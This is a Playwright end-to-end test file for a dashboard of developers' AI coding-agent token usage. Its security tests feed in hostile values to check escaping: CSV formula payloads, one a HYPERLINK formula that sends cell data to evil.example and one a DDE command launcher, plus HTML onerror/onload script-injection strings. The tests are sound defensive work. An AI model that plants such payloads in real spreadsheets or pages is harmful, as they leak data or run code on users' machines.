import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { BrowserContext } from 'playwright-core';
import { addPerson, assignSubteam, createSubteam, createTeam, getTeam } from '../src/teams';
import { call, startBackend } from './harness';
import type { Backend } from './harness';
import { launch } from '../../test/e2e/browser';
import { drawnPixels, stickingOut } from '../../test/e2e/layout';
import { openDashboard } from './dashboardPage';
import { OtelSender } from './otelSender';

/** The company dashboard, served by a real backend, in headless Chromium. */
let b: Backend;
let context: BrowserContext;
let closeBrowser: () => Promise<void>;
let admin: string;

const daysAgo = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);

before(async () => {
  b = await startBackend('sqlite');
  admin = (await createTeam(b.db, 'Platform')).adminToken;
  const people = ['Ana', 'Bob', 'Cy', 'Dee', 'Gus', 'Hal'];
  for (const [i, name] of people.entries()) {
    const { token } = await addPerson(b.db, 1, name, `${name.toLowerCase()}@example.com`);
    if (name === 'Dee') continue; // Dee has not started: the dashboard must show it
    const rows = [];
    for (let d = 0; d < 30; d++) {
      const scale = (i + 1) * 4_000_000;
      // Whole tokens per hour that add up to the day (Ana's agents also work at night).
      const weights = Array.from({ length: 24 }, (_, h): number => (h >= 9 && h < 18 ? 30 : i === 0 ? 9 : 0));
      const sum = weights.reduce((a, b) => a + b, 0);
      const hourly = weights.map((w) => Math.floor((scale * w) / sum));
      hourly[12]! += scale - hourly.reduce((a, b) => a + b, 0);
      const agent = i === 2 ? 'codex' : i > 3 ? 'gemini-cli' : 'claude-code';
      rows.push({ date: daysAgo(d), timezone: 'UTC', deviceId: `laptop-${name}00`, agent, model: { codex: 'gpt-5.1-codex', 'gemini-cli': 'gemini-2.5-pro', 'claude-code': 'claude-sonnet-4-5' }[agent], input: scale / 10, output: scale / 10, cacheRead: (scale * 7) / 10, cacheWrite: scale / 10, reasoning: 0, hourly });
    }
    const r = await call(b, 'POST', '/api/v1/usage/daily', token, { rows });
    assert.equal(r.status, 200, JSON.stringify(r.json));
  }
  // What the Claude Code Analytics connector stores (the org's count), for two days.
  for (const [i, date] of [daysAgo(1), daysAgo(2)].entries()) {
    await b.db.run("INSERT INTO org_usage_daily (person_id, date, source, model, input, output, cache_read, cache_write) VALUES (1, ?, 'claude-code-analytics', 'claude-sonnet-4-5', ?, 0, 0, 0)", [date, 5_000_000 + i]);
  }
  ({ context, close: closeBrowser } = await launch());
});

after(async () => {
  await closeBrowser?.();
  await b?.close();
});

for (const scheme of ['light', 'dark'] as const) {
  for (const width of [360, 1280]) {
    test(`the dashboard at ${width} px, ${scheme}: the system's colour scheme, nothing sideways, every table as CSV`, async () => {
      const page = await context.newPage();
      await openDashboard(page, b.url, admin, width, scheme, '#agent-mix tbody tr');
      const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      assert.equal(bg === 'rgb(255, 255, 255)', scheme === 'light', `body ${bg} in ${scheme}`);
      assert.deepEqual(await stickingOut(page, width), []);
      // Every data table can be downloaded as CSV.
      const tables = await page.locator('table.data:visible').count();
      assert.equal(await page.locator('button.csv:visible').count(), tables);
      const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button.csv[data-table="agent-mix"]').click()]);
      const csv = fs.readFileSync((await download.path())!, 'utf8');
      assert.equal(download.suggestedFilename(), 'agent-mix.csv');
      assert.match(csv, /^Agent,Tokens,Share\n(Gemini CLI|Claude Code|Codex),\d+,\d+%\n/);
      await page.screenshot({ path: path.join('test-results', `dashboard-${width}-${scheme}.png`), fullPage: true });
      await page.close();
    });
  }
}

test('a team with no reports yet says what to do', async () => {
  const empty = await startBackend('sqlite');
  try {
    const { adminToken } = await createTeam(empty.db, 'New team');
    const page = await context.newPage();
    await page.goto(`${empty.url}/dashboard`);
    await page.locator('#token').fill(adminToken);
    await page.locator('#login button').click();
    await page.locator('#dash').waitFor({ state: 'visible' });
    assert.match(await page.locator('#empty-state').innerText(), /No reports yet — add your first developer below and send them their token/);
    await page.close();
  } finally {
    await empty.close();
  }
});

test('the dashboard shows the team: tiers, who is at zero, curve, heatmap, mixes; leaderboard off by default', async () => {
  const page = await context.newPage();
  await page.setViewportSize({ width: 1200, height: 900 });
  const errors: string[] = [];
  const csp: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => m.type() === 'error' && /Content Security Policy/.test(m.text()) && csp.push(m.text()));
  await page.goto(`${b.url}/dashboard`);
  await page.locator('#token').fill('tt_wrong_wrong_wrong_wrong_wrong');
  await page.locator('#login button').click();
  await page.locator('#login-error', { hasText: "This token isn't an admin token for this dashboard" }).waitFor();
  await page.locator('#token').fill(admin);
  await page.locator('#login button').click();
  await page.locator('#dash').waitFor({ state: 'visible' });
  assert.equal(await page.locator('#people-count').innerText(), '6');
  // Who needs help first: Dee never reported.
  // Who needs help, by team: Dee (in no team) never reported.
  assert.deepEqual(await page.locator('#not-reporting tbody tr.group th').allInnerTexts(), ['No team (1)']);
  assert.deepEqual(await page.locator('#not-reporting tbody tr:not(.group) th').allInnerTexts(), ['Dee']);
  assert.deepEqual(await page.locator('#not-reporting tbody tr:not(.group)').first().locator('td').allInnerTexts(), ['never']);
  assert.deepEqual(await page.locator('#at-zero tbody th').allInnerTexts(), ['Nobody']);
  assert.match(await page.locator('#team-name').innerText(), /Platform/);
  // The tier mix is one bar in the headline: Architect 2 of 6 people.
  assert.equal(await page.locator('#headline-mix .seg[data-tier="Architect"]').getAttribute('title'), 'Architect: 2 (33%)');
  const pixels = await drawnPixels(page, 'movement-chart');
  assert.ok(pixels > 1000, `movement chart drew ${pixels} pixels`);
  assert.equal(await page.locator('#heatmap td').count(), 168);
  // Trends: week by week, with what smoothness means; agents per tier (withheld below 5 people).
  assert.ok((await page.locator('#trend-weeks tbody tr').count()) >= 4);
  // The stacked chart's numbers as a table of their own (and so a CSV): a column per tier, a row per week.
  assert.deepEqual(await page.locator('#trend-tier-counts thead th').allTextContents(), ['Week of', 'Not started', 'Beginner', 'Intermediate', 'Expert', 'Architect', 'Catalyst', 'AI God']);
  assert.equal(await page.locator('#trend-tier-counts tbody tr').count(), await page.locator('#trend-weeks tbody tr').count());
  assert.equal(await page.locator('button.csv[data-table="trend-tier-counts"]').count(), 1);
  assert.match(await page.locator('#smoothness-definition').innerText(), /168 hours/);
  assert.match(await page.locator('#tier-agents').innerText(), /Withheld: fewer than 5 people/);
  // Agents by their names, not their ids.
  assert.deepEqual((await page.locator('#agent-mix tbody th').allInnerTexts()).sort(), ['Claude Code', 'Codex', 'Gemini CLI']);
  // The heatmap says which hour is which.
  assert.deepEqual(await page.locator('#heatmap thead th.hour').allInnerTexts(), ['0', '6', '12', '18']);
  assert.match(await page.locator('#top-tier-title').innerText(), /^Among the top tier \(Architect, 2 people\)$/);
  // Two people's agent and model mix would be theirs: withheld, with the reason.
  assert.match(await page.locator('#top-withheld').innerText(), /fewer than 5 people/);
  assert.equal(await page.locator('#top-agent-mix').isVisible(), false);
  // The org's own count beside what was reported, with the difference.
  await page.locator('#analytics-section').waitFor({ state: 'visible' });
  assert.deepEqual(await page.locator('#analytics tbody th').allInnerTexts(), [daysAgo(1), daysAgo(2)]);
  // Ana (4M a day) and Bob (8M) report Claude Code; Analytics (here only for Ana's account) counts 5M.
  assert.deepEqual(await page.locator('#analytics tbody tr').first().locator('td').allInnerTexts(), ['5.0M', '12.0M', '+7.0M']);
  // The exact figures are a hover away: one token of difference is not lost to rounding.
  assert.deepEqual(await page.locator('#analytics tbody tr').nth(1).locator('td').evaluateAll((els) => els.map((e) => e.getAttribute('title'))), ['5,000,001 tokens', '12,000,000 tokens', '+6,999,999 tokens']);
  assert.match(await page.locator('#analytics-summary').innerText(), /Claude Code Analytics counts 10\.0M tokens, developers reported 24\.0M for Claude Code \(\+14\.0M\)/);
  // Per person: Ana's org count (10M over two days) beside her Claude Code on the same two days (4M a day), and why they differ.
  const ana = page.locator('#org-by-person tbody tr').first();
  assert.deepEqual([await ana.locator('th').innerText(), ...(await ana.locator('td').allInnerTexts()).slice(0, 4)], ['Ana', 'Claude Code Analytics', '10.0M', '8.0M', '−2.0M']);
  assert.match(await page.locator('#org-by-person tbody tr.why').first().innerText(), /^The org counts more: it includes other machines.*first-party Claude API only/);
  assert.equal(await page.locator('#leaderboard-off').isVisible(), true);
  assert.equal(await page.locator('#leaderboard').isVisible(), false);
  fs.mkdirSync('test-results', { recursive: true });
  await page.screenshot({ path: path.join('test-results', 'dashboard.png'), fullPage: true });
  // On a phone-width window the page is one column and nothing scrolls sideways.
  await page.setViewportSize({ width: 360, height: 900 });
  await page.waitForFunction(() => document.documentElement.scrollWidth <= 360, undefined, { timeout: 5_000 }).catch(() => undefined);
  assert.deepEqual(await stickingOut(page, 360), [], 'elements wider than a 360 px window');
  await page.screenshot({ path: path.join('test-results', 'dashboard-360.png'), fullPage: true });
  await page.setViewportSize({ width: 1200, height: 900 });
  // The admin turns the leaderboard on; it lists people by tokens/day.
  await page.locator('#leaderboard-toggle').check();
  await page.locator('#leaderboard tbody tr').first().waitFor();
  assert.deepEqual(await page.locator('#leaderboard tbody th').allInnerTexts(), ['Hal', 'Gus', 'Cy', 'Bob', 'Ana', 'Dee']);
  await page.locator('#person-name').fill('Eve');
  await page.locator('#person-email').fill('eve@example.com');
  await page.locator('#add-person button').click();
  await page.locator('#new-token', { hasText: /tt_/ }).waitFor();
  // Shown once: a copy button and what to do next.
  assert.match(await page.locator('#new-token').innerText(), /Next: send it to Eve; they paste it in VS Code with “Token Tier: Set Team Token”/);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: b.url });
  await page.locator('#copy-token').click();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^tt_[A-Za-z0-9_-]{20,}$/);
  assert.equal(await page.locator('#people-count').innerText(), '7');
  // The admin gives Expert the organisation's own text and a link; it is saved for every panel.
  await page.locator('#guide-tier').selectOption('Expert');
  await page.locator('#guide-text').fill('Join the Thursday automation clinic.');
  await page.locator('#guide-links').fill('Clinic | https://intranet.example/clinic');
  await page.locator('#guide-form button').click();
  await page.locator('#guide-status', { hasText: 'Saved' }).waitFor();
  const team = (await getTeam(b.db, 1))!;
  assert.deepEqual(team.tierGuides, { Expert: { text: 'Join the Thursday automation clinic.', links: [{ label: 'Clinic', url: 'https://intranet.example/clinic' }] } });
  await page.locator('#guide-tier').selectOption('Beginner');
  assert.equal(await page.locator('#guide-text').inputValue(), '');
  await page.locator('#guide-tier').selectOption('Expert');
  assert.equal(await page.locator('#guide-text').inputValue(), 'Join the Thursday automation clinic.');
  // Teams: the admin adds one, puts two people in it, and the page shows only them (withheld mixes: 2 < 5).
  await page.locator('#team-new').fill('Platform');
  await page.locator('#add-team button').click();
  await page.locator('#team-status', { hasText: 'Team Platform added' }).waitFor();
  // A small organisation's people list is open: its team pickers are right there.
  assert.equal(await page.locator('#people-box').evaluate((d) => (d as HTMLDetailsElement).open), true);
  for (const name of ['Ana', 'Bob']) {
    await page.locator(`#people select[aria-label="Team of ${name}"]`).selectOption({ label: 'Platform' });
    await page.waitForTimeout(300);
  }
  // A team of two: side by side it shows only its size, never its figures.
  const platform = page.locator('#teams tbody tr[data-team="Platform"]');
  await platform.waitFor();
  assert.match(await platform.innerText(), /Platform\s+2\s+Withheld: fewer than 5 people/);
  assert.equal(await platform.locator('.tier-bar').count(), 0);
  await page.locator('#scope-team').selectOption({ label: 'Platform (2)' });
  await page.locator('#people-count', { hasText: /^2$/ }).waitFor();
  assert.equal(await page.locator('#withheld').isVisible(), true);
  assert.equal(await page.locator('#agent-mix').isVisible(), false);
  // A custom range: the curve covers exactly those days.
  await page.locator('.range button[data-days="7"]').click();
  await page.locator('#scope-custom').click();
  await page.locator('#scope-from').fill(daysAgo(9));
  await page.locator('#scope-to').fill(daysAgo(5));
  await page.locator('#scope-apply').click();
  await page.waitForFunction(() => (document.querySelector('.range button[data-days="7"]') as HTMLElement).getAttribute('aria-pressed') === 'false');
  // The custom range is the one pressed, and the URL keeps it.
  assert.equal(await page.locator('#scope-custom').getAttribute('aria-pressed'), 'true');
  assert.match(page.url(), new RegExp(`from=${daysAgo(9)}&to=${daysAgo(5)}`));
  assert.deepEqual(errors, []);
  assert.deepEqual(csp, []);
});

test('another page cannot show the dashboard in a frame (clickjacking)', async () => {
  const page = await context.newPage();
  // A page that is not the dashboard's (about:blank here; frame-ancestors 'none' refuses every parent).
  // 'load' waits for the frame too, whether it shows the dashboard or the browser's refusal.
  await page.setContent(`<!DOCTYPE html><iframe id="f" src="${b.url}/dashboard" width="800" height="600"></iframe>`, { waitUntil: 'load' });
  const frame = page.frames().find((f) => f !== page.mainFrame())!;
  assert.ok(frame, 'the iframe exists');
  // A refused frame shows the browser's error page, never the dashboard's login.
  assert.equal(await frame.locator('#token').count(), 0, `the dashboard loaded inside another page (${frame.url()})`);
  await page.close();
});

test("a member's model name cannot become a spreadsheet formula in a CSV, whether it came by report or by OTLP", async () => {
  const hostile = await startBackend('sqlite');
  try {
    const { adminToken } = await createTeam(hostile.db, 'Formulas');
    // Five people, so the model mix is shown (below 5 it is withheld); each model name a formula.
    const models = ['=HYPERLINK("https://evil.example/?q="&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
    for (const [i, model] of models.entries()) {
      const { token } = await addPerson(hostile.db, 1, `P${i}`, `p${i}@example.com`);
      const r = await call(hostile, 'POST', '/api/v1/usage/daily', token, { rows: [{ date: daysAgo(0), timezone: 'UTC', deviceId: `laptop-${i}0000`, agent: 'codex', model, input: 1000 * (i + 1), output: 0, cacheRead: 0, cacheWrite: 0, reasoning: 0 }] });
      assert.equal(r.status, 200, JSON.stringify(r.json));
    }
    const { token } = await addPerson(hostile.db, 1, 'P4', 'p4@example.com');
    const sender = new OtelSender({ url: hostile.url, token, protocol: 'http/json', temporality: 'delta', resource: { 'service.name': 'claude-code', 'host.name': 'ci' } });
    sender.counter('claude_code.token.usage')(9000, { type: 'input', model: '=1+1' });
    await sender.flush();
    await sender.shutdown();
    const page = await context.newPage();
    await openDashboard(page, hostile.url, adminToken, 1280, 'light', '#model-mix tbody tr');
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button.csv[data-table="model-mix"]').click()]);
    const rows = parseCsv(fs.readFileSync((await download.path())!, 'utf8')).slice(1);
    assert.deepEqual(rows.map((r) => r[0]).sort(), ["'=1+1", ...models.map((m) => `'${m}`)].sort());
    // Figures stay figures: only text that a spreadsheet would run is marked.
    assert.ok(rows.every((r) => /^\d+$/.test(r[1]!) && /^(\d+|<1|>99)%$/.test(r[2]!)), JSON.stringify(rows));
    await page.close();
  } finally {
    await hostile.close();
  }
});

/** RFC 4180: fields split on commas, quoted fields with doubled quotes, rows on newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

test('the admin revokes a token and removes people from the dashboard, keeping or deleting their rows', async () => {
  const org = await startBackend('sqlite');
  try {
    const { adminToken } = await createTeam(org.db, 'Leavers');
    const tokens: Record<string, string> = {};
    for (const name of ['Ana', 'Bob', 'Cy', 'Dee', 'Eve', 'Fay']) {
      tokens[name] = (await addPerson(org.db, 1, name, `${name.toLowerCase()}@example.com`)).token;
      const rows = [{ date: daysAgo(0), timezone: 'UTC', deviceId: `laptop-${name}00`, agent: 'codex', model: 'gpt-5.1-codex', input: 1_000_000, output: 0, cacheRead: 0, cacheWrite: 0, reasoning: 0 }];
      assert.equal((await call(org, 'POST', '/api/v1/usage/daily', tokens[name], { rows })).status, 200);
    }
    const page = await context.newPage();
    await openDashboard(page, org.url, adminToken, 1280, 'light', '#people tbody tr');
    // Tokens: listed without secrets; Ana's is revoked with one click and a confirmation.
    await page.locator('#tokens-box summary').click();
    const anaRow = page.locator('#tokens tbody tr', { hasText: 'ana@example.com' });
    assert.equal(await anaRow.count(), 1);
    assert.doesNotMatch(await page.locator('#tokens').innerText(), /tt_/);
    page.once('dialog', (d) => void d.accept());
    await anaRow.getByRole('button', { name: /^Revoke/ }).click();
    await page.locator('#tokens tbody tr', { hasText: 'ana@example.com' }).waitFor({ state: 'detached' });
    assert.equal((await call(org, 'GET', '/api/v1/me', tokens.Ana)).status, 401);
    // Bob leaves: removed keeping his rows (the totals stay, his name goes).
    await page.getByRole('button', { name: 'Remove Bob' }).click();
    await page.locator('#remove-dialog').waitFor({ state: 'visible' });
    assert.match(await page.locator('#remove-dialog').innerText(), /Bob/);
    await page.locator('#remove-keep').click();
    await page.locator('#people-count', { hasText: /^5$/ }).waitFor();
    assert.equal((await call(org, 'GET', '/api/v1/me', tokens.Bob)).status, 401);
    assert.ok(!(await page.locator('#people').innerText()).includes('Bob'));
    // Cy asked for their data to go: removed with their rows.
    await page.getByRole('button', { name: 'Remove Cy' }).click();
    await page.locator('#remove-delete').click();
    await page.locator('#people-count', { hasText: /^4$/ }).waitFor();
    assert.deepEqual(await org.db.all("SELECT 1 FROM usage_daily u JOIN people p ON p.id = u.person_id WHERE p.email = 'cy@example.com'"), []);
    // Cancel does nothing.
    await page.getByRole('button', { name: 'Remove Dee' }).click();
    await page.locator('#remove-cancel').click();
    assert.equal(await page.locator('#remove-dialog').isVisible(), false);
    assert.equal((await call(org, 'GET', '/api/v1/me', tokens.Dee)).status, 200);
    await page.close();
  } finally {
    await org.close();
  }
});

test('names and model ids are text everywhere the new views show them: teams, who needs help, tokens, the remove dialog', async () => {
  const org = await startBackend('sqlite');
  try {
    const { adminToken } = await createTeam(org.db, 'Org <b>bold</b>');
    const team = await createSubteam(org.db, 1, '<img src=x onerror="window.__xss=1">');
    for (let i = 0; i < 5; i++) {
      const { personId, token } = await addPerson(org.db, 1, `<img src=x onerror="window.__xss=2">P${i}`, `x${i}@example.com`);
      await assignSubteam(org.db, 1, personId, team.id);
      if (i > 1) continue; // the others are on the not-reporting list
      const rows = [{ date: daysAgo(0), timezone: 'UTC', deviceId: `laptop-${i}0000`, agent: 'codex', model: '<svg onload="window.__xss=3">', input: 1000, output: 0, cacheRead: 0, cacheWrite: 0, reasoning: 0 }];
      assert.equal((await call(org, 'POST', '/api/v1/usage/daily', token, { rows })).status, 200);
    }
    const page = await context.newPage();
    await openDashboard(page, org.url, adminToken, 1280, 'light', '#teams tbody tr');
    // A small organisation's people list is open already; the tokens list is opened.
    await page.locator('#tokens-box summary').click();
    await page.getByRole('button', { name: /^Remove <img/ }).first().click();
    await page.locator('#remove-dialog').waitFor({ state: 'visible' });
    assert.equal(await page.locator('#teams .team-link').first().innerText(), '<img src=x onerror="window.__xss=1">');
    assert.match(await page.locator('#not-reporting').innerText(), /<img src=x onerror="window.__xss=2">P\d/);
    assert.match(await page.locator('#remove-dialog').innerText(), /<img src=x onerror="window.__xss=2">P\d/);
    assert.equal(await page.locator('#team-name').innerText(), '— Org <b>bold</b>');
    assert.equal(await page.evaluate(() => document.querySelectorAll('main img, main svg[onload], dialog img, #team-name b').length), 0);
    assert.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
    await page.close();
  } finally {
    await org.close();
  }
});
